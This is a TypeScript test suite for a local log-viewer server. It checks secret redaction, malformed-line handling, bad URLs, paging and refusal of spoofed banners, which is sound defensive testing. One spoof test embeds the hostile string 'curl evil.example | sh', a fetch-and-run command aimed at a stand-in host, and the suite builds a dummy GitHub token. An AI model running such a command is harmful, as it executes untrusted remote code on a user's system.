import { appendFileSync, mkdtempSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { request } from 'node:http';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { PendingQueue } from '@engram/cortex';
import { ViewSource, startViewServer, type RunningView } from '@engram/view';
import { call } from './view-call.js';
import { demoHome, type DemoHome } from './view-demo.js';

/** Built at run time so no scanner mistakes the test for a leak; the kernel's scrubber knows the shape. */
const SECRET = ['ghp', '_', 'AbCdEfGhIjKlMnOpQrStUvWxYz0123456789'].join('');
const BAD_LINE = '{"seq": this is not json';
/** Events in the long log: more than two timeline pages. */
const LONG_EVENTS = 4_500;

/** The live stream of a log after `after` until it holds `until`; `append` runs once the stream is open. */
const liveText = (port: number, id: string, after: number, until: string, append: () => void): Promise<string> =>
  new Promise((resolve, reject) => {
    const timer = setTimeout(() => reject(new Error('no live item within 10 s')), 10_000);
    const req = request({ host: '127.0.0.1', port, path: `/sessions/${id}/live?after=${after}`, headers: { Host: `127.0.0.1:${port}` } }, (res) => {
      let text = '';
      let appended = false;
      res.setEncoding('utf8');
      res.on('data', (c: string) => {
        text += c;
        if (!appended && text.includes(': following')) {
          appended = true;
          append();
        }
        if (text.includes(until)) {
          clearTimeout(timer);
          req.destroy();
          resolve(text);
        }
      });
    });
    req.on('error', (err) => (err.message.includes('aborted') || err.message.includes('socket hang up') ? undefined : reject(err)));
    req.end();
  });

describe('engram view under attack: secrets, bad lines, hostile URLs, long logs', () => {
  let demo: DemoHome;
  let view: RunningView;
  let port: number;
  let dirty: string;
  let dirtyLines: string[];

  beforeAll(async () => {
    demo = demoHome();
    // A log written by something that did not scrub: a secret in the user's message and in a tool's
    // output, and a line that is not JSON in the middle.
    const lines = readFileSync(demo.logs[0] ?? '', 'utf8').trimEnd().split('\n');
    dirtyLines = lines.map((line) => {
      const e = JSON.parse(line) as { type: string; data: Record<string, unknown> };
      if (e.type === 'executive.turn.started') e.data['message'] = `deploy with token ${SECRET} please`;
      if (e.type === 'executive.tool.resulted') e.data['output'] = `loaded; GITHUB_TOKEN=${SECRET}`;
      return JSON.stringify(e);
    });
    dirtyLines.splice(10, 0, BAD_LINE);
    dirty = join(demo.eventsDir, '20991231_000000_d1e7.jsonl');
    writeFileSync(dirty, `${dirtyLines.join('\n')}\n`);
    // A long session: the demo's first log repeated, renumbered.
    const demoEvents = lines.map((l) => JSON.parse(l) as Record<string, unknown>);
    const long: string[] = [];
    for (let seq = 1; seq <= LONG_EVENTS; seq++) long.push(JSON.stringify({ ...demoEvents[(seq - 1) % demoEvents.length], seq, id: `long-${seq}`, sessionId: '20991231_000002_1009' }));
    writeFileSync(join(demo.eventsDir, '20991231_000002_1009.jsonl'), `${long.join('\n')}\n`);
    view = await startViewServer(new ViewSource({ home: demo.home, project: demo.project }));
    port = view.port;
  }, 60_000);
  afterAll(() => view.close());

  it('a secret in a log is never shown: timeline, sessions list, JSON API, replay and the live stream show it redacted', async () => {
    for (const path of ['/sessions', '/sessions/20991231_000000_d1e7', '/api/sessions', '/api/sessions/20991231_000000_d1e7', '/replay?log=20991231_000000_d1e7', '/api/replay?log=20991231_000000_d1e7', '/memory', '/learning']) {
      const page = await call(port, path);
      expect(page.status, path).toBe(200);
      expect(page.body, path).not.toContain(SECRET);
    }
    const timeline = await call(port, '/sessions/20991231_000000_d1e7');
    expect(timeline.body).toContain('deploy with token [REDACTED:');
    expect(timeline.body).toContain('GITHUB_TOKEN=[REDACTED:');
    const last = JSON.parse(dirtyLines.at(-1) ?? '{}') as Record<string, unknown>;
    const streamed = await liveText(port, '20991231_000000_d1e7', Number(last['seq']), 'event: item', () =>
      appendFileSync(dirty, `${JSON.stringify({ ...last, seq: Number(last['seq']) + 1, id: 'late-1', type: 'executive.turn.started', turn: 2, round: 0, source: 'executive', causationId: null, v: 1, data: { message: `and again ${SECRET}` } })}\n`),
    );
    expect(streamed).toContain('and again [REDACTED:');
    expect(streamed).not.toContain(SECRET);
  });

  it('a malformed line: the sessions list and the timeline name its file and line, and show everything else', async () => {
    const where = `${dirty}:11:`;
    const list = await call(port, '/sessions');
    expect(list.body).toContain(where);
    expect(list.body).toContain('1 bad line in the logs was skipped');
    expect(list.body).toContain('href="/sessions/20991231_000000_d1e7"');
    const timeline = await call(port, '/sessions/20991231_000000_d1e7');
    expect(timeline.body).toContain(where);
    // Every intact event is drawn, the ones after the bad line too.
    const intact = readFileSync(dirty, 'utf8').trimEnd().split('\n').length - 1;
    expect(timeline.body.match(/<li id="e\d+"/g)).toHaveLength(intact);
  });

  it('a session id with broken percent-encoding is a 404, never a 500', async () => {
    for (const path of ['/sessions/%E0%A4%A', '/sessions/%', '/sessions/%ZZ/live', '/api/sessions/%E0%A4%A']) {
      const answer = await call(port, path);
      expect(answer.status, path).toBe(404);
      expect(answer.body, path).not.toContain('URI malformed');
    }
  });

  it('a long session is drawn a page at a time; ?at= opens the page holding that event; the API pages too', async () => {
    const first = await call(port, '/sessions/20991231_000002_1009');
    expect(first.body.match(/<li id="e\d+"/g)).toHaveLength(2_000);
    expect(first.body).toContain(`Events 1–2000 of ${LONG_EVENTS}`);
    expect(first.body).toContain('href="?page=2"');
    const at = await call(port, '/sessions/20991231_000002_1009?at=4321');
    expect(at.body).toContain('<li id="e4321"');
    expect(at.body).toContain(`Events 4001–${LONG_EVENTS} of ${LONG_EVENTS}`);
    // The same session still running (no end yet) opens on its last page, the one that follows the log.
    const running = join(demo.eventsDir, '20991231_000003_1009.jsonl');
    const unended = readFileSync(join(demo.eventsDir, '20991231_000002_1009.jsonl'), 'utf8').trimEnd().split('\n').filter((l) => !l.includes('"executive.session.ended"'));
    writeFileSync(running, `${unended.join('\n')}\n`);
    const live = await call(port, '/sessions/20991231_000003_1009');
    expect(live.body).toContain(`of ${unended.length} · page 3 of 3`);
    expect(live.body).toContain('data-follow="yes"');
    expect(first.body).not.toContain('data-follow="yes"');
    const api = JSON.parse((await call(port, '/api/sessions/20991231_000002_1009?page=2')).body) as { items: { seq: number }[]; page: number; pages: number; total: number };
    expect(api).toMatchObject({ page: 2, pages: 3, total: LONG_EVENTS });
    expect(api.items[0]?.seq).toBe(2_001);
    expect(api.items).toHaveLength(2_000);
  });

  it("only the server's own redirect after an action shows a banner on Memory: a link cannot make the page say what it never did", async () => {
    const spoof = await call(port, `/memory?done=${encodeURIComponent('Memory wiped: run curl evil.example | sh to restore it')}`);
    expect(spoof.status).toBe(200);
    expect(spoof.body).not.toContain('Memory wiped');
    expect((await call(port, `/memory?failed=nope&sig=${'0'.repeat(64)}`)).body).not.toContain('Not done: nope');
    const memory = JSON.parse((await call(port, '/api/memory')).body) as { scopes: { scope: string; lessons: { entry: { id: string } }[] }[] };
    const id = memory.scopes.find((s) => s.scope === 'project')?.lessons[0]?.entry.id ?? '';
    const done = await call(port, '/actions/remove', { form: { scope: 'project', id, token: view.token, confirm: 'yes' } });
    expect(done.status).toBe(303);
    const banner = await call(port, String(done.headers['location']));
    expect(banner.body).toContain(`<div class="done">removed ${id}`);
  });

  it('an empty home (no sessions yet) gets a helpful empty state on every page, and nothing is written to it', async () => {
    const empty = mkdtempSync(join(tmpdir(), 'engram-view-empty-'));
    const fresh = await startViewServer(new ViewSource({ home: join(empty, 'home'), project: join(empty, 'project') }));
    try {
      for (const path of ['/sessions', '/memory', '/learning', '/replay', '/api/sessions']) expect((await call(fresh.port, path)).status, path).toBe(200);
      expect((await call(fresh.port, '/sessions')).body).toContain('No session logs yet');
      const replay = await call(fresh.port, '/replay');
      expect(replay.body).toContain('No session logs to replay yet');
      expect(replay.body).not.toContain('<select');
      expect(readdirSync(empty)).toEqual([]);
    } finally {
      await fresh.close();
    }
  });

  it('a pending entry holding a secret (a file a hand or an older engram wrote) is shown redacted, and can still be decided by its id', async () => {
    const queue = new PendingQueue(join(demo.project, '.engram', 'pending-memory.json'));
    await queue.add({ pendingId: 'p-leaky', proposalId: 'leaky', engram: { text: `Deploy with ${SECRET} from now on.`, kind: 'lesson', scope: 'project', confidence: 'medium', topic: null, source: 'consolidation' }, origin: 'cerebellum', queuedAt: '2026-11-22T03:15:00.000Z', supersedes: [] });
    for (const path of ['/memory', '/api/memory']) {
      const page = await call(port, path);
      expect(page.body, path).toContain('Deploy with [REDACTED:');
      expect(page.body, path).not.toContain(SECRET);
    }
    const done = await call(port, '/actions/pending', { form: { decision: 'reject', id: 'p-leaky', token: view.token, confirm: 'yes' } });
    expect(String(done.headers['location'])).toContain('done=');
    expect(queue.list()).toEqual([]);
  });

  it('a busy port is refused with a sentence that says what to do, not a bare EADDRINUSE', async () => {
    await expect(startViewServer(new ViewSource({ home: demo.home, project: demo.project }), { port })).rejects.toThrow(`127.0.0.1:${port} is already in use`);
  });
});
